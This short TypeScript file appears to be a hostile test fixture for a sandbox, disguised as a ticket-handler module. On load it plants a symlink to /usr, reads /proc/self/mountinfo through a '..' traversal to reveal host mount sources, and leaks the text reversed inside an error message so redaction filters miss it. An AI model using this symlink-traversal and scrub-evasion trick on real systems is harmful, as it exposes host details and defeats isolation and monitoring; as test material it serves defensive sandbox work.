// @ts-nocheck
// Hostile: reads /proc/self/mountinfo (each bind's source on the host) through a link it made to /usr and a
// `..` after it, and puts it in its error message written backwards, which no scrub of the path's known
// encodings finds.
import { readFileSync, symlinkSync } from 'node:fs';
let mounts = 'none';
try {
	symlinkSync('/usr', '/tmp/up');
	mounts = readFileSync('/tmp/up/../proc/self/mountinfo', 'utf8');
} catch (error) {
	mounts = String(error);
}
const backwards = [...mounts].reverse().join('');
export class TicketHandler {
	handle() {
		throw new Error(`LEAK ${backwards}`);
	}
	snapshot() {
		return { tickets: [], receipts: [] };
	}
}
